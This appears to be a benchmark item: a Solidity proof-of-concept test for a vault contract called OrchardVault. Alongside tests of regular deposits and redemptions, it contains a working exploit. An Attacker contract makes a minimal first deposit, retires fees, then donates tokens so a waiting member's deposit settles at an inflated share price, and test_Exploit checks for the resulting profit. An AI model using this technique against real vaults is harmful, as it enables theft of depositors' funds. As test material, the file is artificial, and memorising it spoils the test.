// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./OrchardVault.sol";

// assay-canary-ac168c41-fb56-4214-a25c-029fa51c72a3

interface Vm {
    function prank(address who) external;
    function warp(uint256 time) external;
}

contract Apple {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Member {
    Apple private token;
    OrchardVault private vault;

    constructor(Apple token_, OrchardVault vault_) {
        token = token_;
        vault = vault_;
    }

    function ask(uint128 assets) external {
        token.approve(address(vault), assets);
        vault.requestDeposit(assets);
    }

    function cancel() external {
        vault.cancelRequest();
    }

    function leave(uint256 shares) external {
        vault.redeem(shares, address(this));
    }
}

contract Attacker {
    Apple private token;
    OrchardVault private vault;

    constructor(Apple token_, OrchardVault vault_) {
        token = token_;
        vault = vault_;
    }

    // In the season in which an honest member already waits: the smallest first deposit.
    function enter() external {
        uint256 least = vault.LOCKED_SHARES() + 1;
        token.approve(address(vault), least);
        vault.requestDeposit(uint128(least));
    }

    // Once the next season has begun.
    function run(address waiting) external {
        vault.settleDeposit(address(this));
        vault.retireFees();
        (uint128 expected, ) = vault.requestOf(waiting);
        token.transfer(address(vault), expected / 2);
        vault.settleDeposit(waiting);
        vault.redeem(vault.balanceOf(address(this)), address(this));
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    Apple public token;
    OrchardVault private vault;
    Member private iris;
    Member private noor;
    Attacker private mallory;

    function setUp() public {
        token = new Apple();
        vault = new OrchardVault(IERC20(address(token)));
        iris = new Member(token, vault);
        noor = new Member(token, vault);
        mallory = new Attacker(token, vault);
        token.mint(address(iris), 100e18);
        token.mint(address(noor), 100e18);
        token.mint(address(mallory), 60e18);
        token.mint(address(this), 1000e18);
        iris.ask(100e18);
    }

    function test_Regular() public {
        (bool early, ) = address(vault).call(abi.encodeCall(OrchardVault.settleDeposit, (address(iris))));
        require(!early, "joined before the season");
        noor.ask(60e18);
        noor.cancel();
        require(token.balanceOf(address(noor)) == 100e18, "cancelled");

        vm.warp(block.timestamp + 14 days);
        vault.settleDeposit(address(iris));
        require(vault.balanceOf(address(iris)) == 100e18 - 1e6, "first shares");
        token.transfer(address(vault), 20e18);
        noor.ask(60e18);
        require(vault.totalAssets() == 120e18, "waiting tokens stay outside");

        vm.warp(block.timestamp + 14 days);
        vault.settleDeposit(address(noor));
        require(vault.balanceOf(address(noor)) == 50e18, "joined at 1.2");

        iris.leave(40e18);
        require(token.balanceOf(address(iris)) == 47.76e18, "40 shares less the fee");
        uint256 price = vault.convertToAssets(1e18);
        uint256 supply = vault.totalSupply();
        vault.retireFees();
        require(vault.totalSupply() <= supply - 0.2e18, "fees retired");
        require(vault.convertToAssets(1e18) > price, "price rose");
        noor.leave(50e18);
        require(token.balanceOf(address(noor)) > 99.7e18, "noor left with all but the fee");

        vm.prank(address(iris));
        vault.transfer(address(noor), 1e18);
        require(vault.balanceOf(address(noor)) >= 1e18, "handed on");
    }

    function exploit() public {
        mallory.enter();
        vm.warp(block.timestamp + 14 days);
        mallory.run(address(iris));
    }

    function test_Exploit() public {
        uint256 before = token.balanceOf(address(mallory));
        exploit();
        require(token.balanceOf(address(mallory)) >= before + 20e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
